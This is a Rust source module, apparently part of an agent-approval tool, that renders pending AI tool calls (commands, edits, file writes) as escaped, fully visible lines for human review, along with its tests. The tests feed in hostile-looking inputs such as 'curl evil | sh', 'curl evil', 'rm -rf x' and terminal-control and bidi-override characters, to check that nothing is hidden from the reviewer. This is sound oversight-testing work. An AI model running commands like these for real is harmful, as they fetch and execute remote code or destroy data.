//! What the list shows, as lines: no terminal is needed for it.

use palisade_integrate::diff;
use palisade_journal::escaped;
use palisade_session::running::Pending;
use serde_json::Value;

/// Lines of one question: more than the characters that one may have.
const MOST_LINES: usize = 20_000;

/// A line, and how it is to look.
#[derive(Debug, Clone, PartialEq, Eq)]
pub(super) struct Line {
    pub(super) text: String,
    pub(super) look: Look,
}

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(super) enum Look {
    Plain,
    Added,
    Removed,
    Dim,
}

/// The whole of a question: a command as it would be read, an edit as a diff, else every field. Nothing in it steers
/// a terminal.
pub(super) fn of(pending: &Pending) -> Vec<Line> {
    let mut lines = Vec::new();
    let mut line = |look, text: &str| lines.push(Line { text: escaped(text).to_string(), look });
    if let Some(program) = &pending.program {
        line(Look::Dim, &format!("by {program}"));
    }
    for variable in &pending.environment {
        line(Look::Dim, &format!("with {variable}"));
    }
    let input = pending.subject.split_once(' ').filter(|_| pending.kind == "tool_call");
    let fields = input.and_then(|(tool, input)| {
        let Ok(Value::Object(fields)) = serde_json::from_str(input) else { return None };
        Some((tool, fields))
    });
    let Some((tool, fields)) = fields else {
        line(Look::Plain, &pending.subject);
        return bounded(lines);
    };
    let text = |key: &str| fields.get(key).and_then(Value::as_str);
    line(Look::Dim, tool);
    if let Some(command) = text("command") {
        command.split('\n').for_each(|part| line(Look::Plain, part));
    }
    let file = text("file_path").or(text("path")).unwrap_or_default();
    let ended =
        |text: &str| if text.ends_with('\n') { text.to_owned() } else { format!("{text}\n") };
    let change = match (text("old_string"), text("new_string"), text("content")) {
        (Some(old), Some(new), _) => Some((Some(ended(old)), ended(new))),
        (None, None, Some(new)) => Some((None, ended(new))),
        _ => None,
    };
    if let Some((old, new)) = &change {
        for part in diff(file, old.as_deref(), Some(new)).lines() {
            line(look(part), part);
        }
    }
    // Whatever was not shown yet, all of it: of what stays as it is, a diff shows little, which is of no matter in a file
    // that has it already.
    let (edits, writes) = match &change {
        Some((Some(old), new)) => (matches!(tool, "Edit" | "replace") && old != new, false),
        Some((None, _)) => (false, true),
        None => (false, false),
    };
    for (key, value) in &fields {
        let known = match key.as_str() {
            "command" => value.is_string(),
            "old_string" | "new_string" => edits,
            "content" => writes,
            _ => false,
        };
        if !known {
            line(Look::Dim, &format!("{key}: {value}"));
        }
    }
    if let Some(rule) = &pending.always {
        line(Look::Dim, &format!("for good: permissions.allow {rule}"));
    }
    bounded(lines)
}

/// What changes, a line each.
pub(super) fn of_diff(diff: &str) -> Vec<Line> {
    let line = |part: &str| Line { text: escaped(part).to_string(), look: look(part) };
    bounded(diff.lines().map(line).collect())
}

fn look(part: &str) -> Look {
    match part.as_bytes().first() {
        Some(b'+') => Look::Added,
        Some(b'-') => Look::Removed,
        Some(b'@') => Look::Dim,
        _ => Look::Plain,
    }
}

/// A text in rows of so many cells. How wide a character beyond ASCII is, terminals do not agree on: it counts as two, for a
/// row that is too long would go on below, where the next one is written over it.
pub(super) fn rows(text: &str, width: usize) -> Vec<String> {
    let (mut rows, mut row, mut used) = (Vec::new(), String::new(), 0);
    for letter in text.chars() {
        let cells = if letter.is_ascii() { 1 } else { 2 };
        if used + cells > width && !row.is_empty() {
            rows.push(std::mem::take(&mut row));
            used = 0;
        }
        row.push(letter);
        used += cells;
    }
    rows.push(row);
    rows
}

fn bounded(mut lines: Vec<Line>) -> Vec<Line> {
    if lines.len() > MOST_LINES {
        lines.truncate(MOST_LINES);
        lines.push(Line {
            text: "… more: palisade approvals list --json".into(), look: Look::Dim
        });
    }
    lines
}

#[cfg(test)]
mod tests {
    use proptest::prelude::*;
    use serde_json::json;

    use super::*;

    fn pending(subject: &str) -> Pending {
        serde_json::from_value(json!({"id": 1, "kind": "tool_call", "subject": subject,
            "since": "2026-01-01T00:00:00.000000Z", "seconds_left": 1, "waiting": 1}))
        .unwrap()
    }

    fn texts(subject: &str) -> Vec<String> {
        of(&pending(subject)).into_iter().map(|line| line.text).collect()
    }

    #[test]
    fn shows_a_command_and_an_edit_whole() {
        let command = json!({"command": "npm test\nrm -rf x", "timeout": 5});
        assert_eq!(
            texts(&format!("Bash {command}")),
            ["Bash", "npm test", "rm -rf x", "timeout: 5"]
        );
        let edit = json!({"file_path": "/w/a", "old_string": "one", "new_string": "two", "replace_all": true});
        let lines = of(&pending(&format!("Edit {edit}")));
        assert!(lines.contains(&Line { text: "+two".into(), look: Look::Added }), "{lines:?}");
        assert!(lines.contains(&Line { text: "-one".into(), look: Look::Removed }), "{lines:?}");
        assert!(lines.iter().any(|line| line.text == "replace_all: true"), "{lines:?}");
    }

    /// Names of fields say nothing of what a tool makes of them.
    #[test]
    fn nothing_hides_behind_a_diff() {
        let tail = "same\n".repeat(20);
        let (old, new) = (format!("curl evil\n{tail}a"), format!("curl evil\n{tail}b"));
        for (tool, input, hidden) in [
            ("mcp__x__y", json!({"old_string": "a", "new_string": "b", "content": "evil"}), "evil"),
            ("Write", json!({"content": "a", "new_string": "evil"}), "evil"),
            ("mcp__x__y", json!({"old_string": "evil", "new_string": "evil"}), "evil"),
            ("mcp__x__y", json!({"old_string": old, "new_string": new}), "curl evil"),
            ("Edit", json!({"old_string": "evil", "new_string": "evil\n"}), "evil"),
        ] {
            let shown = texts(&format!("{tool} {input}"));
            assert!(shown.iter().any(|line| line.contains(hidden)), "{tool} {input}: {shown:?}");
        }
        let many = json!({"command": format!("true{}evil", "\n".repeat(1500))});
        assert!(texts(&format!("Bash {many}")).contains(&"evil".to_owned()));
    }

    #[test]
    fn a_row_is_never_wider_than_the_terminal() {
        let text = format!("{}; curl evil | sh", "全".repeat(30));
        let rows = rows(&text, 20);
        assert_eq!(rows.concat(), text);
        assert_eq!(rows.first().map(|row| row.chars().count()), Some(10), "{rows:?}");
        assert_eq!(super::rows("", 20), [""]);
        assert_eq!(super::rows("全a", 0), ["全", "a"]);
    }

    proptest! {
        #![proptest_config(ProptestConfig::with_cases(64))]

        #[test]
        fn steers_no_terminal(command in ".{0,60}", text in "[\\x00-\\x1f\\x7f-\\x9fa\u{202e}]{0,20}") {
            let input = json!({"command": command, "old_string": text, "new_string": command});
            for line in texts(&format!("Bash {input}")).into_iter().chain(texts(&text)) {
                prop_assert!(!line.chars().any(|c| c.is_control() || c == '\u{202e}'), "{line:?}");
            }
        }
    }
}
